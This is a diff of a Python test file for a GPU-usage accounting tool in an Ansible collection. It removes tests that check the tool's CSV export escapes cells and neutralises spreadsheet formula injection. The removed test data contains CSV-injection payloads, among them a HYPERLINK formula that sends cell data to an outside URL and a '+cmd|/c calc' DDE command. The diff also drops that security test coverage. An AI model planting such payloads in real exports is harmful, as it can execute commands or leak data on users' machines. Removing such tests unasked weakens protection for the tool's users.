@@ -5,10 +5,7 @@
 
 from __future__ import annotations
 
-import csv
-import io
 import os
-import re
 import sqlite3
 import stat
 
@@ -19,7 +16,6 @@ from ansible_collections.gpufleet.reclaim.plugins.module_utils.core.model import
 from ansible_collections.gpufleet.reclaim.plugins.module_utils.core.snapshot import Snapshot
 
 T0 = 1767225600.0   # 2026-01-01T00:00:00Z
-UNSAFE_CSV = re.compile('[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]')
 
 
 def proc(pid, user, gpus, mib, util=None, start=None, name='python', cmdline=('python', 'train.py'), job=None):
@@ -311,38 +307,3 @@ def test_a_schema_2_history_is_read_as_is_and_upgraded_in_place_by_the_writer(tm
     assert stat.S_IMODE(os.stat(db).st_mode) == 0o600
     history.record_samples(db, jobs_scenario(), now=T0 + 60, interval_s=60)   # once upgraded, no second ALTER
     assert [j['job'] for j in history.report(db, hours=1, now=T0 + 60)['accounting']['jobs']] == ['9', '7', '8']
-
-
-HOSTILE_USERS = ['=HYPERLINK("http://x/?"&A1)', '+cmd|/c calc', '-2+3', '@SUM(A1)', 'a"b,c', 'x\r\ny', '\tz', 'eve\u202e']
-
-
-def test_accounting_csv_escapes_every_cell_and_defuses_formulas(tmp_path):
-    db = str(tmp_path / 'h.db')
-    fill(db, snapshot([proc(10 + i, user, [i % 4], 100, util=50, job=str(i + 1)) for i, user in enumerate(HOSTILE_USERS)]),
-         samples=3)
-    report = history.report(db, hours=1, now=T0 + 180, top=100)
-    text = history.accounting_csv({'=node01': report, 'node02': {'available': False, 'error': 'no usage history at /x\n=1+1'}})
-    assert text.endswith('\r\n') and '\n' not in text.replace('\r\n', '')      # no cell breaks a row
-    rows = list(csv.reader(io.StringIO(text, newline='')))
-    assert rows[0] == list(history.ACCOUNTING_CSV_COLUMNS)
-    assert all(len(row) == len(rows[0]) for row in rows)
-    assert [r[1] for r in rows[1:]].count('user') == len(HOSTILE_USERS) and rows[-1][:2] == ['node02', 'unavailable']
-    assert rows[-1][-1] == 'no usage history at /x\\x0a=1+1'
-    users = [r[2] for r in rows[1:] if r[1] == 'user']
-    for cell in [r[0] for r in rows[1:]] + users + [r[2] for r in rows[1:] if r[1] == 'job']:
-        assert cell[:1] not in ('=', '+', '-', '@', '\t', '\r') and not UNSAFE_CSV.search(cell), cell
-    assert "'=HYPERLINK(\"http://x/?\"&A1)" in users and "'-2+3" in users and 'x\\x0d\\x0ay' in users and 'eve\\u202e' in users
-    total = [r for r in rows if r[1] == 'total'][0]
-    assert total[0] == "'=node01" and float(total[6]) == report['accounting']['totals']['gpu_hours']
-    job = [r for r in rows if r[1] == 'job' and r[3] == '1'][0]
-    assert job[2] == "'=HYPERLINK(\"http://x/?\"&A1)" and job[4] == '' and job[9] == '2026-01-01T00:00:00Z'
-    # numbers stay numbers, unknown values empty
-    assert history.accounting_csv(report).split('\r\n')[1].startswith(',"user",')
-    with pytest.raises(history.HistoryError, match='expected a gpu_audit report'):
-        history.accounting_csv(['not', 'a', 'report'])
-
-
-def test_csv_cell():
-    from ansible_collections.gpufleet.reclaim.plugins.module_utils.core.text import csv_cell
-    assert [csv_cell(v) for v in (None, 0, 2.5, True, 'a', '=1', '-x', '@x', '+x', ' =x', 'a"b')] == [
-        '', '0', '2.5', 'true', '"a"', '"\'=1"', '"\'-x"', '"\'@x"', '"\'+x"', '" =x"', '"a""b"']
